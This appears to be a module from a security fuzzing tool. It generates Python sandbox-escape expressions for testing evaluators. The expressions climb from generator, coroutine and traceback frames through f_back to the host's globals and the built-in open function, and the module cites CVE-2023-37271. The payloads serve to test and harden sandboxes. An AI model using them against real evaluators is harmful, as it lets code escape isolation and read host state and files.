"""Frames: what runs the code, found through generators, coroutines and tracebacks."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.eval_parts import CANARY, READ, evaluated, statements, valued

_REF = "https://docs.python.org/3/reference/datamodel.html#frame-objects"
_MOST = 8  # frames between the code and what runs it
_ENDS = (f".f_globals{CANARY}", f".f_builtins['open']{READ}")


def _backwards(least: int = 0) -> Iterator[str]:
    """Yield the ways from a frame to what proves that it is the host's."""
    for back in range(least, _MOST):
        for end in _ENDS if back else _ENDS[:1]:
            yield ".f_back" * back + end


@evaluated(
    "eval-generator-frame",
    group="frames",
    cwe="CWE-913",
    platforms=("python",),
    needs="refuses names with two underscores, and knows no frames",
    refs=("CVE-2023-37271", _REF),
)
def generator_frame() -> Iterator[str]:
    """Ask a generator for its frame while it runs, and that for the frames behind it."""
    for end in _ENDS:
        yield f"(x for x in [1]).gi_frame{end}"
    for way in _backwards(1):
        yield valued("[x for x in g][0]", f"g = (g.gi_frame{way} for x in [1])")
        yield f"[g := (g.gi_frame{way} for x in [1]), list(g)][1][0]"
    for way in (f".f_back.f_back{_ENDS[0]}", f".f_back{_ENDS[0]}"):
        yield statements("def f():", f"    yield g.gi_frame{way}", "g = f()", "result = list(g)[0]")
    walked = f"frame.f_globals{CANARY}"
    yield statements(
        "def f():",
        "    frame = g.gi_frame",
        "    while frame is not None:",
        f"        if {CANARY[1:-1]} in frame.f_globals:",
        f"            yield {walked}",
        "        frame = frame.f_back",
        "g = f()",
        "result = list(g)[0]",
    )


@evaluated(
    "eval-coroutine-frame",
    group="coroutine-frames",
    cwe="CWE-913",
    platforms=("python",),
    needs="knows the frames of generators, and not those of coroutines",
    refs=("CVE-2023-37271", _REF),
)
def coroutine_frame() -> Iterator[str]:
    """Ask a coroutine or an asynchronous generator for its frame."""
    for end in _ENDS:
        yield valued(f"c.cr_frame{end}", "async def f(): pass", "c = f()")
        yield valued(f"a.ag_frame{end}", "async def f():", "    yield 1", "a = f()")
    for way in _backwards(1):
        yield statements(
            "async def f():",
            f"    raise ValueError(c.cr_frame{way})",
            "c = f()",
            "try:",
            "    c.send(None)",
            "except ValueError as error:",
            "    result = error.args[0]",
        )
        yield statements(
            "async def f():",
            f"    yield a.ag_frame{way}",
            "a = f()",
            "try:",
            "    a.asend(None).send(None)",
            "except StopIteration as error:",
            "    result = error.value",
        )


@evaluated(
    "eval-traceback",
    group="tracebacks",
    cwe="CWE-209",
    platforms=("python",),
    needs="hands exceptions to the code with the frames that they passed",
    refs=(_REF,),
)
def traceback() -> Iterator[str]:
    """Ask a caught exception for the frames that it has passed, outwards and inwards."""
    walks = [f"tb_frame{way}" for way in _backwards()]
    walks += [f"{'tb_next.' * deep}tb_frame{_ENDS[0]}" for deep in range(1, _MOST)]
    for failing in ("1 / 0", "int('x')", "().nothing", "[][1]"):
        for walk in walks if failing == "1 / 0" else walks[:1]:
            yield _caught(failing, f"error.__traceback__.{walk}")
    for way in _backwards():
        yield _caught("1 / 0", f"error.__context__.__traceback__.tb_frame{way}", again=True)
    yield _caught("1 / 0", f"error.__cause__.__traceback__.tb_frame{_ENDS[0]}", again=True)


def _caught(failing: str, expression: str, *, again: bool = False) -> str:
    inner = [
        "    try:",
        f"        {failing}",
        "    except Exception as e:",
        "        raise ValueError from e",
    ]
    return statements(
        "try:",
        *(inner if again else [f"    {failing}"]),
        "except Exception as error:",
        f"    result = {expression}",
    )
